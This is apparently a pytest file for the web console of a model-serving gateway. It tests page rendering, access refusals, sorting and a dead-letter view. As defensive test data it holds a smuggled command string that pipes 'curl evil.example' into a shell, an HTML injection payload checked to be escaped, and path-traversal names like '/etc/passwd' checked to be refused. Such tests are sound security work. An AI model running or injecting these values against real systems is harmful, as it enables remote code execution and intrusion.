import re
from dataclasses import replace
from importlib.metadata import version

import msgspec
import pytest
from builders.messages import DRIFT, LABEL, PREDICTION
from builders.status import CLUSTER, DIGITS, NOW_S, compared, group, report
from unit.gateway.console.rig import ANYBODY, MARKUP, READER, STRANGER, asked, declare, followed, html, renderer
from unit.gateway.rig import NO_KAFKA, refused

from clipper_agents.dead_letters.reader import Letter
from clipper_agents.status.query_history import LoggedFeedback, LoggedQuery, QueryHistory
from clipper_gateway.access import Caller
from clipper_gateway.callers import Shares
from clipper_gateway.console import live_pages
from clipper_gateway.console.pages import Pages
from clipper_gateway.console.renderer import Page
from clipper_topics import codec
from clipper_topics.change import Change
from clipper_topics.control_keys import change_key, key_of
from clipper_topics.dead_letter import DeadLetter
from clipper_topics.manifests import ApplicationManifest

APPLICATION, TRIAL = "/applications/{name}", "/applications/{name}/trials/{ref}"
LIVE = sorted(Pages.live)
DIGITS_ONLY = Caller("alan", frozenset({"digits"}), frozenset({"read"}))
SAID = DeadLetter(exception="a.b.UndecodableRecord", message=MARKUP, topic="clipper.queries", partition=3, offset=41)
LETTER = Letter(position=7, at_ms=2**62, key=b"\x00\xff", value=MARKUP.encode(), headers=((MARKUP, b"x"),), said=SAID)


class Queries:
    """Knows one query; notes what it is asked."""

    def __init__(self):
        self.asked = []

    async def read(self, caller, query_id, application, context, back_s):
        self.asked.append((query_id, application, context, back_s))
        if query_id != "order-7":
            return QueryHistory(complete=False)
        prediction = msgspec.structs.replace(PREDICTION, output=MARKUP, served_propensity=0.975)
        query = LoggedQuery(3, 41, prediction.queried_at_ms)
        feedback = LoggedFeedback(LABEL, 12, prediction.queried_at_ms, "applied")
        return QueryHistory(query=query, prediction=prediction, feedback=(feedback,))


class Site:
    def __init__(self):
        self.view, self.queries = followed(), Queries()
        self.pages = Pages(self.view, self.queries.read, *NO_KAFKA, Shares().readers)

    async def page(self, at, caller=ANYBODY, *, of=(), **query):
        path = {"name": "digits", "ref": "rf:2", "position": "7", **dict(of)}
        return await self.pages.builders[at](asked(caller, path, **query))

    def change(self, revision, **fields):
        about = {"application": "digits", "command": "update", "by": "ada", "revision": revision, "at_ms": 1}
        one = Change(**about | fields)
        self.view.facts.control(change_key("digits", revision), codec.changes.encode(one))

    def drift(self, **fields):
        one = msgspec.structs.replace(DRIFT, at_ms=int(1000 * NOW_S), **fields)
        self.view.facts.control(key_of(one), codec.drifts.encode(one))


@pytest.fixture
def site():
    return Site()


def letter_page(**fields):
    return Page(
        template="dead_letter.html", title="Dead letter 7", data={"letter": LETTER, "can_operate": True} | fields
    )


# --- any page -------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("path", LIVE)
async def test_until_the_topics_are_read_every_live_page_says_that_it_loads(path, site):
    site.view.is_read = False
    page = await site.page(path)
    assert (page.template, page.status) == ("loading.html", 503)
    assert 'aria-busy="true"' in html(page)
    assert "data-live" in html(page)


@pytest.mark.parametrize("path", LIVE)
async def test_every_page_names_what_is_declared_and_links_to_it(path, site):
    site.drift()
    page = await site.page(path)
    shown = html(page)
    assert 'href="/console/applications/digits"' in shown
    assert shown.count("<h1>") == 1
    regions = {part.split('"')[0] for part in shown.split('id="')[1:] if part.startswith("live_")}
    assert set(renderer().regions(page)) == {"live_state", *regions}


@pytest.mark.parametrize("path", LIVE)
async def test_what_somebody_else_wrote_is_text_on_every_page(path, site):
    site.change(5, by=MARKUP, why=MARKUP, model="rf:2", numbers={MARKUP: 0.5})
    site.drift(context=MARKUP, detector=MARKUP)
    report(site.view.facts, "svm:1", MARKUP, "failed", MARKUP)
    site.view.stale_reason = MARKUP
    page = await site.page(path, q=MARKUP.lower())
    for shown in (html(page), "".join(renderer().regions(page).values())):
        assert "<img src=x" not in shown
        assert "&lt;img src=x" in shown


@pytest.mark.parametrize("path", ["", "/models", "/changes"])
async def test_a_key_for_others_sees_nothing_of_an_application(path, site):
    site.drift()
    page = await site.page(path, STRANGER)
    for shown in (html(page, STRANGER), "".join(renderer().regions(page).values())):
        assert not any(secret in shown for secret in ("digits", "svm:1", "rf:2", "ada", "shop"))


@pytest.mark.parametrize(
    ("path", "caller", "of", "query", "status"),
    [
        (APPLICATION, ANYBODY, {"name": "nobody"}, {}, 404),
        (TRIAL, ANYBODY, {"ref": "nobody:1"}, {}, 404),
        ("/changes", ANYBODY, {}, {"application": "digits", "revision": "99"}, 404),
        *(("/dead-letters/{position}", ANYBODY, {"position": text}, {}, 404) for text in ("9" * 5_000, "\u00b2", "")),
        ("/dead-letters", STRANGER, {}, {}, 403),
        ("/dead-letters/{position}", STRANGER, {}, {}, 403),
        ("/queries", STRANGER, {}, {"id": "order-7", "application": ""}, 403),
        ("/queries", STRANGER, {}, {"id": "order-7", "application": "digits"}, 403),
    ],
)
async def test_what_is_not_there_or_not_for_the_caller_is_refused(site, path, caller, of, query, status):
    await refused(site.page(path, caller, of=of, **query), status)
    assert site.queries.asked == []


# --- what pages show ------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("path", "of", "query", "parts"),
    [
        ("", {}, {}, ["no module named shop", "<code>clipper-stream apply</code>", '/console/models?model=rf%3A2"']),
        ("", {}, {}, ["<dt>Effect</dt><dd>it answers nothing</dd>", 'aria-label="Abort digits nn 3"', "3 of 4"]),
        ("", {}, {"q": "nobody"}, ["No application has “nobody” in its name"]),
        (APPLICATION, {}, {}, ["canary 5\xa0%", "0.100 <small>[0.055, 0.174]</small>"]),
        (TRIAL, {}, {}, ['<li class="here" aria-current="step">canary 5\xa0%', "upper end -0.010 below 0.02"]),
        (
            TRIAL,
            {},
            {},
            ['<p class="word undecided">Undecided</p>', "No feedback compares it", "steward&#39;s next report"],
        ),
        (TRIAL, {}, {}, ["becomes a canary of 25 % of the queries", "with at least 50 feedbacks"]),
        (TRIAL, {"ref": "nn:3"}, {}, ["Nothing happens by itself", '<li class="here" aria-current="step">shadow']),
        (TRIAL, {"ref": "old:1"}, {}, ["is not on trial any more", "worst of three"]),
        ("/queries", {}, {"id": "nobody"}, ["not read whole in time"]),
    ],
)
async def test_a_page_shows_what_there_is_and_what_comes_next(site, path, of, query, parts):
    shown = html(await site.page(path, of=of, **query))
    assert [part for part in parts if part not in shown and part not in " ".join(shown.split())] == []


async def test_a_trial_leads_with_the_verdict_of_the_stewards_comparison(site):
    site.view.facts.comparison(b"digits/rf:2", codec.comparisons.encode(compared("rf:2")), at_s=NOW_S)
    shown = " ".join(html(await site.page(TRIAL)).split())
    said = "Its loss minus that of the answers lies between -0.200 and -0.010; +0.020 is allowed. </p>"
    fed = '0.300</td> <td data-label="of what">40 feedbacks'
    parts = ('<p class="word better">Better</p>', said, fed, "of 80 queries, 3 of them wait")
    assert [part for part in parts if part not in shown] == []


HOSTILE = "h`; curl evil.example | sh`"


async def test_a_command_to_copy_has_nothing_in_it_that_somebody_else_wrote(site):
    report(site.view.facts, "svm:1", HOSTILE, "failed", HOSTILE)
    report(site.view.facts, "svm:1", HOSTILE + "2", "ready")
    site.view.facts.comparison(b"digits/rf:2", codec.comparisons.encode(compared("rf:2", HOSTILE)), at_s=NOW_S)
    for path in LIVE:
        shown = html(await site.page(path))
        assert [one for one in shown.split('data-copy="')[1:] if "curl" in one.partition('"')[0]] == []
    message = f"no application {HOSTILE} is declared"
    failed = renderer().render("error.html", caller=None, csrf="", status=404, phrase="Not found", message=message)
    assert ("curl evil.example" in failed, "data-copy" in failed) == (True, False)


async def test_who_sees_one_application_is_told_that_the_whole_is_in_trouble_and_not_how(site):
    site.view.cluster.newest = replace(CLUSTER, groups=(group(None),))
    for caller, cause, figure in (
        (DIGITS_ONLY, "wrong with the whole deployment", "Pipeline"),
        (ANYBODY, "no router runs", "Routers"),
    ):
        shown = html(await site.page("", caller), caller)
        assert [cause in shown, figure in shown, '<span class="tag bad">down</span>' in shown] == [True] * 3
        assert ("no router runs" in shown) == (caller is ANYBODY)
    site.view.cluster.newest = None
    site.view.look()
    shown = html(await site.page("", DIGITS_ONLY), DIGITS_ONLY)
    assert ("Nothing is wrong" in shown, "not known" in shown, "whole deployment" in shown) == (False, True, False)


BY_TROUBLE, BY_NAME = ["digits", "app-0000", "app-0001"], ["app-0000", "app-0001", "digits"]
ORDERS = {"": BY_TROUBLE, "queries": BY_TROUBLE, "application": BY_NAME, "nothing": BY_TROUBLE}


@pytest.mark.parametrize(("order", "names"), ORDERS.items())
async def test_applications_with_most_trouble_come_first_unless_a_heading_is_asked_for(site, order, names):
    declare(site.view, 2, "knn:1")
    page = await site.page("", sort=order)
    assert [one.name for one in page.data["sheet"].rows] == names


async def test_an_empty_deployment_says_how_to_begin(site):
    site.view.facts.control(key_of(DIGITS), None)
    shown = html(await site.page(""))
    assert "No application is declared" in shown
    assert "clipper-stream apply" in shown


async def test_a_long_list_is_cut_into_sheets_that_keep_the_search(site):
    names = declare(site.view, 2 * live_pages.APPLICATIONS)
    page = await site.page("", q="app", sheet="2")
    assert [one.name for one in page.data["sheet"].rows] == names[200:]
    assert "?q=app&amp;sort=state&amp;sheet=1" in html(page)


async def test_stale_figures_say_since_when(site):
    site.view.stale_reason = "no broker answers since 22:13:00Z"
    shown = renderer().regions(await site.page(""))["live_state"]
    assert site.view.stale_reason in shown
    assert "2023-11-14 22:13:20" in shown


async def test_an_application_shows_what_may_be_done_to_each_version_to_who_may_do_it(site):
    page = await site.page(APPLICATION)
    for action, model in (("retire", "svm:1"), ("promote", "rf:2"), ("abort", "nn:3")):
        form = next(part for part in html(page).split("<form")[1:] if f"/{action}/preview" in part and model in part)
        assert '<input type="hidden" name="application" value="digits">' in form
        assert '<input type="hidden" name="csrf" value="t0ken">' in form
    regions = renderer().regions(page)
    assert "/console/actions/abort/preview" in regions["live_versions"]
    assert "csrf" not in "".join(regions.values()), "regions are the same for all sessions"
    assert "/preview" not in html(await site.page(APPLICATION, READER), READER)


async def test_a_change_shows_the_difference_that_it_made_and_the_newest_comes_first(site):
    assert [one.revision for one in (await site.page("/changes")).data["sheet"].rows] == [4, 3, 2]
    site.change(7, before=ApplicationManifest(name="digits", models=["svm:1"]), after=DIGITS)
    shown = html(await site.page("/changes", application="digits", revision="7"))
    assert '<span class="add">+    &#34;knn:1&#34;</span>' in shown
    assert 'name="to_revision" value="7"' in shown


async def test_a_query_shows_its_life_its_decision_and_its_feedback(site):
    shown = html(await site.page("/queries", id="order-7", context="user-42"))
    assert site.queries.asked == [("order-7", None, "user-42", 24 * 3600.0)]
    parts = ("partition 3, offset 41", "answered after 10\xa0ms", "feedback: applied", "0.9750", "svm:1", "forest:2")
    assert [part for part in (*parts, "&lt;img src=x") if part not in shown] == []
    assert "<img src=x" not in shown


async def test_what_became_of_a_query_is_told_in_order_of_time_and_the_default_of_a_model_is_named(site):
    prediction = msgspec.structs.replace(PREDICTION, predicted_at_ms=3_000, default=True, reason="late")
    said = tuple(LoggedFeedback(LABEL, 12, at_ms, "applied") for at_ms in (4_000, 2_000))
    history = QueryHistory(query=LoggedQuery(3, 41, 1_000), prediction=prediction, feedback=said)

    async def read(*_):
        return history

    site.pages = Pages(site.view, read, *NO_KAFKA, Shares().readers)
    page = await site.page("/queries", id="order-7")
    assert [at_ms for at_ms, _ in page.data["life"]] == [1_000, 2_000, 3_000, 4_000]
    assert "by the default output: late" in page.data["life"][2][1]


QUANTITIES = {
    APPLICATION: ("<dt>p50</dt>", "<dt>p99</dt>", "last 10 s", "loss to date, 95 %", ">batch limit<", ">p50<", ">p99<"),
    "/models": (">batch limit<", ">batch p50<", ">batch p99<", "since the hosts started"),
    "": (">p99<", "of the last 10 s", "last 10 to 60 s"),
    TRIAL: (">loss of rf:2<", "with confidence 95 % at all times, of", "share now"),
}


@pytest.mark.parametrize("path", QUANTITIES)
async def test_a_quantity_has_one_name_on_every_page_with_its_window_and_the_foot_says_the_version(path, site):
    site.view.facts.comparison(b"digits/rf:2", codec.comparisons.encode(compared("rf:2")), at_s=NOW_S)
    shown = html(await site.page(path)).replace("\xa0", " ")
    assert [text for text in QUANTITIES[path] if text not in shown] == []
    assert "median" not in shown
    assert f"<p>clipper-stream {version('clipper-stream')} " in shown


async def test_each_cell_says_its_heading_and_what_people_wrote_has_its_own_direction(site):
    why = "\u0644\u0623\u0646\u0647 \u0623\u0641\u0636\u0644"
    site.change(5, by="ada", why=why, model="rf:2")
    shown = html(await site.page("/changes"))
    assert f'<td data-label="why" class="long" dir="auto">{why}</td>' in shown
    assert '<td data-label="revision" class="right">' in shown


@pytest.mark.parametrize("name", ["README.md", "how-to/use-the-console.md"])
async def test_the_documentation_is_in_the_console_which_links_to_it(site, name):
    shown = html(await site.page("/docs/{page:path}", of={"page": name}))
    assert re.search(r"<h1>.+</h1>", shown)
    assert shown.count("<img") == 1  # of the console itself
    assert "/console/docs/how-to/use-the-console.md" in shown


@pytest.mark.parametrize("name", ["", "nothing.md", "walk.py", "../README.md", "/etc/passwd", "images"])
async def test_what_is_no_page_of_the_documentation_is_refused(site, name):
    await refused(site.page("/docs/{page:path}", of={"page": name}), 404)


# --- dead letters ---------------------------------------------------------------------------------------------------
RESEND = "/console/actions/resend/preview"


@pytest.mark.parametrize(
    ("fields", "parts", "markups", "is_offered"),
    [
        ({}, [r"\x00\xff", "4611686018427387904 ms"], 4, True),
        ({"letter": replace(LETTER, value=b"a" * 2**20)}, ["and 1044480 bytes more"], 3, True),
        ({"can_operate": False}, [], 4, False),
    ],
    ids=["text, or escaped", "the beginning of a long value", "for who may only look"],
)
def test_a_dead_letter_is_shown_without_markup_and_can_be_resent_by_who_may_act(fields, parts, markups, is_offered):
    shown = html(letter_page(**fields))
    assert [part for part in parts if part not in shown] == []
    assert ("<img src=x" in shown, shown.count("&lt;img src=x"), RESEND in shown) == (False, markups, is_offered)
    assert len(shown) < 20_000


@pytest.mark.parametrize(("said", "boxes"), [(SAID, 1), (None, 0)], ids=["letter", "no-letter"])
def test_only_what_is_a_dead_letter_can_be_picked(said, boxes):
    data = {"letters": [replace(LETTER, said=said)], "topic": "", "error": "", "before": 7, "can_operate": True}
    shown = html(Page(template="dead_letters.html", title="Dead letters", data=data))
    assert shown.count('type="checkbox"') == boxes
    assert "before=7" in shown
